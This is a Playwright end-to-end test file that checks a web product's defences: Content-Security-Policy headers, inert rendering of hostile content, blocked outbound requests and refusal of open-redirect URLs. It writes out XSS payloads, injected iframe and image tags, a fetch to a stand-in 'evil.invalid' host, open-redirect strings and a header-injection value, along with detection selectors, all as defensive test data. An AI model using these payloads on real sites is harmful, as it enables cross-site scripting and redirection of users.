import fs from 'node:fs'
import path from 'node:path'
import type { Page } from '@playwright/test'
import { makeHostileProject } from '@/e2e/hostile-project'
import { askDatabase } from '@/e2e/ask-database'
import { settled } from '@/e2e/page-audit'
import { openDemoRun } from '@/e2e/demo-run'
import { expect, productUrl, test } from '@/e2e/story'

type Watched = { foreign: string[]; dialogs: string[]; opened: string[] }

/** What must not happen, however it comes about: a request to another host, a dialog, another window. What the policy stops is an error in the console, which fails every story. */
async function watch(page: Page): Promise<Watched> {
  const watched: Watched = { foreign: [], dialogs: [], opened: [] }
  const own = new URL(productUrl()).origin
  page.on('request', (request) => {
    const url = new URL(request.url())
    if (/^(?:https?|wss?):$/.test(url.protocol) && url.origin !== own) watched.foreign.push(request.url())
  })
  page.on('dialog', (dialog) => {
    watched.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.context().on('page', (other) => watched.opened.push(other.url()))
  return watched
}

/** Every page of the product with an address that exists, by the folder of its file; `ids` fill the parts in brackets. */
function everyPage(ids: Record<string, string>): { file: string; address: string }[] {
  const files = fs.readdirSync('app', { recursive: true, encoding: 'utf8' }).filter((file) => path.basename(file) === 'page.tsx').sort()
  return files.map((file) => {
    const folder = `/${path.dirname(file)}`.replace(/^\/\.$/, '/')
    const address = folder.replace(/\/\[\[?(?:\.\.\.)?(\w+)\]?\]/g, (_, name: string) => {
      const value = ids[`${folder} ${name}`] ?? ids[name]
      if (value === undefined) throw new Error(`e2e/attack-content.spec.ts knows no ${name} for app/${file}: add it to the ids`)
      return value === '' ? '' : `/${value}`
    })
    return { file, address: address || '/' }
  })
}

async function idsOf(slug: string): Promise<Record<string, string>> {
  const one = async (sql: string) => (await askDatabase<{ id: string }>(sql.replace('$project', `(select id from project where slug = '${slug}')`)))[0]?.id ?? '00000000-0000-4000-8000-000000000000'
  const [runId, traceId, importId, sourceId] = await Promise.all([
    one('select id from run where project_id = $project order by created_at desc limit 1'), one('select id from trace where project_id = $project order by ts desc limit 1'),
    one(`select id from trace_import where project_id = $project order by started_at desc limit 1`), one('select id from trace_source where project_id = $project limit 1'),
  ])
  const caseId = await one(`select case_id as id from run_case where run_id = '${runId}' order by position limit 1`)
  const setId = await one(`select s.value->>'id' as id from gate_decision d, jsonb_array_elements(d.report->'sets') s where d.run_id = '${runId}' and s.value->>'kind' = 'segment' limit 1`)
  return {
    project: slug, runId, traceId, importId, sourceId, caseId, kind: 'segment', setId: encodeURIComponent(setId), id: '00000000-0000-4000-8000-000000000000', slug: 'quick-start',
    '/p/[project]/adversarial/[caseId] caseId': await one('select case_id as id from adversarial_entry where project_id = $project order by sequence limit 1'),
  }
}

/** Elements that only a text could have made, and marks that a script left. */
async function tracesOfAttack(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const made = ['img[src*="evil.invalid"]', 'img[src="x"]', 'iframe', 'object', 'embed', 'base', 'math', 'meta[http-equiv="refresh" i]', 'link[href*="evil.invalid"]', 'script[src*="evil.invalid"]', '[onerror]', '[onload]', 'a[href^="javascript:" i]', 'style:not([data-mantine-styles]):not([nonce])']
    return [
      ...made.filter((selector) => document.querySelector(selector)),
      ...('attacked' in window ? ['a script ran'] : []),
      // tickets are on desk.invalid; no other link leads away
      ...[...document.querySelectorAll<HTMLAnchorElement>('a[href]')].filter((link) => link.origin !== location.origin && link.hostname !== 'desk.invalid').map((link) => `a link to ${link.href}`),
      ...[...document.querySelectorAll<HTMLAnchorElement>('a[target="_blank"]')].filter((link) => link.origin !== location.origin && !link.rel.includes('noopener')).map((link) => `a link without noopener: ${link.href}`),
    ]
  })
}

const isWider = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth > 1)

test('what traces, files and people say stays text on every page, loads nothing and runs nothing', async ({ signedIn: page, faults }) => {
  test.setTimeout(240_000)
  const watched = await watch(page)
  const slug = await makeHostileProject(page)
  // the browser reports the flag that was refused
  expect(faults.splice(0).every((fault) => fault.includes('400'))).toBe(true)
  const wide: string[] = []
  for (const { address } of everyPage(await idsOf(slug))) {
    const answer = await page.goto(address)
    expect(answer!.headers()['content-security-policy'], address).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]{20,}' 'strict-dynamic'/)
    // live pages hold a line open, so that the network is never idle
    await settled(page)
    expect(await tracesOfAttack(page), address).toEqual([])
    if (answer!.status() === 404) faults.splice(0, faults.length, ...faults.filter((fault) => !fault.includes('404')))
    else if (await isWider(page)) wide.push(address)
    expect(faults, address).toEqual([])
  }
  expect(wide, 'pages that a long word pushes out of the window').toEqual([])
  expect(watched).toEqual({ foreign: [], dialogs: [], opened: [] })
})

test('dialogs, charts, the palette, notes and files work under the policy of every page', async ({ signedIn: page, faults }) => {
  const watched = await watch(page)
  await page.goto('/p/demo')
  // by links, which load pages by scripts that the first page brought
  for (const name of ['Runs', 'Coverage', 'Cost', 'Segments']) {
    await page.getByRole('navigation').getByRole('link', { name, exact: true }).first().click()
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
    await page.waitForLoadState('networkidle')
  }
  await page.keyboard.press('ControlOrMeta+k')
  await page.getByRole('textbox', { name: /search/i }).first().fill('<img src=x onerror=alert(1)>')
  await page.waitForLoadState('networkidle')
  await page.keyboard.press('Escape')
  await page.goto('/p/demo/runs?new=run')
  await expect(page.getByRole('dialog')).toBeVisible()
  expect(await page.evaluate(() => getComputedStyle(document.body).overflow), 'a dialog locks the page behind it, by a style with the nonce').toBe('hidden')
  await page.keyboard.press('Escape')
  expect(await tracesOfAttack(page)).toEqual([])
  expect(faults).toEqual([])
  expect(watched).toEqual({ foreign: [], dialogs: [], opened: [] })
})

test('a script that a page would be given after all does not run', async ({ signedIn: page, faults }) => {
  const watched = await watch(page)
  await page.goto('/p/demo')
  await page.waitForLoadState('networkidle')
  await page.evaluate(() => {
    const stopped = new Set<string>()
    document.addEventListener('securitypolicyviolation', (event) => stopped.add(event.effectiveDirective))
    Object.assign(window, { stopped })
    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.invalid/a.png"><img src=x onerror="window.attacked=1"><iframe src="https://evil.invalid/"></iframe><a id=js href="javascript:window.attacked=1">x</a><style>body{color:red}</style>')
    document.getElementById('js')!.click()
    fetch('https://evil.invalid/out').catch(() => undefined)
  })
  await expect.poll(() => page.evaluate(() => [...(window as unknown as { stopped: Set<string> }).stopped].sort()))
    .toEqual(['connect-src', 'frame-src', 'img-src', 'script-src-attr', 'script-src-elem', 'style-src-elem'])
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
  expect(watched.foreign.filter((url) => !url.includes('evil.invalid'))).toEqual([])
  // the browser reports each of them
  faults.splice(0)
})

test('addresses that lead away, cannot be read or are too long are refused as what they are', async ({ signedIn: page, request, faults }) => {
  for (const next of ['//evil.invalid', '/\\evil.invalid', 'https://evil.invalid/', '/\t/evil.invalid', 'javascript:alert(1)', '/%09/evil.invalid', '/..//evil.invalid', '/%2f%2fevil.invalid']) {
    await page.goto(`/sign-in?next=${encodeURIComponent(next)}`)
    await page.waitForLoadState('load')
    expect(new URL(page.url()).host, next).toBe(new URL(productUrl()).host)
  }
  faults.splice(0, faults.length, ...faults.filter((fault) => !fault.includes('404')))
  for (const bad of ['/p/%ff', '/p/demo/runs/%ff', '/%', '/p/demo/%E0%A4%A', '/p/%00', '/p/demo/traces/%00', '/api/v1/runs/%ff', '/api/v1/runs/%00?project=demo', '/p/demo/runs/export?format=%00', '/docs/%ff']) {
    const answer = await page.request.get(bad, { maxRedirects: 0 })
    // a page that says that there is no such thing may have begun with 200, since it streams
    if (bad.startsWith('/api/')) expect(answer.status(), bad).toBeGreaterThanOrEqual(400)
    else if (answer.status() === 200) expect(await answer.text(), bad).toContain('NEXT_HTTP_ERROR_FALLBACK;404')
    expect(answer.status(), bad).toBeLessThan(500)
  }
  expect((await request.get(`/p/${'a'.repeat(20_000)}`)).status()).toBeGreaterThanOrEqual(400)
  const echoed = await page.request.get('/api/v1/runs?project=demo', { headers: { 'x-request-id': 'a;b=<script>' } })
  expect(echoed.headers()['x-request-id']).toMatch(/^[0-9a-f-]{36}$/)
  for (const url of ['/api/v1/runs?project=demo', '/api/v1/openapi.json', '/p/demo/traces/export?format=csv', '/nowhere', '/icon.svg']) {
    const headers = (await page.request.get(url)).headers()
    expect(headers, url).toMatchObject({ 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY', 'referrer-policy': 'same-origin', 'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin' })
    expect(headers['content-security-policy'], url).toMatch(/frame-ancestors 'none'/)
    expect(headers['permissions-policy'], url).toContain('camera=()')
  }
})

test('a report opens as a page that is drawn: its own style applies, and no other may', async ({ signedIn: page, faults }) => {
  await openDemoRun(page)
  const href = await page.getByRole('link', { name: 'HTML', exact: true }).getAttribute('href')
  const answer = await page.goto(href!)
  expect(answer!.headers()['content-security-policy']).toMatch(/^default-src 'none'; style-src 'sha256-[^']+'.*frame-ancestors 'none'; sandbox/)
  expect((await page.locator('svg.sign').boundingBox())?.width, 'the sign of the verdict is a sign').toBeLessThan(60)
  // no script runs there, and the one by which this story steers the browser is told so as well
  expect(faults.splice(0).filter((fault) => !/^Blocked script execution .* because the document's frame is sandboxed/.test(fault))).toEqual([])
})
